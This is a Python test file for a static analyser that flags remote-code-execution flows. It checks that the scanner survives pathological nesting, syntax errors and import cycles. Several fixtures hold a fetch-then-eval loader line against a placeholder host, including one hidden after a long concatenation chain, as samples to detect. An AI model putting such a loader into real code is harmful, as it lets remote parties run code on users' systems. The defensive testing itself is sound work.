"""Bad input never crashes or hangs the flow analysis (issue 3 section 7)."""

from __future__ import annotations

from pathlib import Path

from inspector.model import Category, Severity
from inspector.static.flow import FlowVisitor
from inspector.static.treesitter import TreeSitterAnalyzer
from tests.static.flow._scan import rce, scan, write_repo


def test_pathologically_nested_javascript_gives_at_most_an_info_finding(tmp_path: Path) -> None:
    depth = 3000
    files = {
        "arrays.js": "x = " + "[" * depth + "1" + "]" * depth + ";\n",
        "arrows.js": "f = " + "() => (" * depth + "1" + ")" * depth + ";\n",
        "calls.js": "g(" * depth + "1" + ")" * depth + ";\n",
        "blocks.js": "{" * depth + "}" * depth + "\n",
    }
    result = scan(tmp_path, files)
    assert all(f.severity is Severity.INFO for f in result.findings)
    assert {f.path for f in result.findings if f.category is Category.ANALYSIS} <= set(files)


def test_pathologically_nested_python_is_survived(tmp_path: Path) -> None:
    result = scan(tmp_path, {"deep.py": "x = " + "(" * 2000 + "1" + ")" * 2000 + "\n"})
    assert all(f.severity is Severity.INFO for f in result.findings)


def test_a_loader_after_a_long_concatenation_chain_is_still_found(tmp_path: Path) -> None:
    chain = " + ".join(["'a'"] * 20000)
    files = {"a.js": f"const s = {chain};\naxios.get('https://x.invalid').then(r => eval(r.data + s));\n"}
    assert [(f.path, f.line) for f in rce(scan(tmp_path, files))] == [("a.js", 2)]


def test_code_nested_deeper_than_the_walk_depth_is_reported_as_partly_analysed(tmp_path: Path) -> None:
    files = {"a.js": "x = " + "[" * 500 + "axios.get('https://x.invalid').then(r => eval(r.data))" + "]" * 500 + ";\n"}
    result = scan(tmp_path, files)
    [info] = [f for f in result.findings if f.rule == "flow.partial-analysis"]
    assert "nested deeper" in info.message


def test_syntax_errors_with_nothing_found_give_no_flow_finding(tmp_path: Path) -> None:
    files = {
        "broken.js": "function ( {{{ eval( \n const = = ;\n",
        "broken.py": "def (:\n  exec(\n",
        "binary.js": "\x00\x01\x02\xff garbage \x7f",
    }
    result = scan(tmp_path, files)
    assert [f for f in result.findings if f.rule.startswith("flow.")] == []


def test_a_tree_over_the_node_budget_is_skipped_with_an_info_finding(tmp_path: Path) -> None:
    repo = write_repo(tmp_path, {"big.js": "axios.get('https://x.invalid').then(r => eval(r.data));\n" + "a;" * 500})
    result = TreeSitterAnalyzer([FlowVisitor(max_nodes=200)], jobs=1).analyze(repo)
    assert [(f.rule, f.severity, f.path) for f in result.findings] == [
        ("flow.partial-analysis", Severity.INFO, "big.js")
    ]


def test_cycles_in_imports_aliases_and_calls_terminate(tmp_path: Path) -> None:
    files = {
        "a.js": "const b = require('./b');\nlet x = y; let y = x;\nfunction f(v) { return g(v); }\n"
        "function g(v) { return f(v); }\nmodule.exports = b;\nexports.run = b.run;\n",
        "b.js": "const a = require('./a');\nmodule.exports = a;\nexports.run = a.run;\n"
        "a.run(fetch('https://x.invalid'));\n",
        "c.py": "from .d import f\ndef g(x):\n    return f(x)\n",
        "d.py": "from .c import g\ndef f(x):\n    return g(x)\n",
    }
    result = scan(tmp_path, files)
    assert rce(result) == []


def test_many_files_run_in_worker_processes(tmp_path: Path) -> None:
    files = {f"m{i}.js": f"exports.f{i} = (x) => x;\n" for i in range(12)}
    files["loader.js"] = "axios.get('https://x.invalid').then(r => eval(r.data));\n"
    repo = write_repo(tmp_path, files)
    result = TreeSitterAnalyzer([FlowVisitor()], jobs=2).analyze(repo)
    assert [(f.path, f.line) for f in rce(result)] == [("loader.js", 1)]
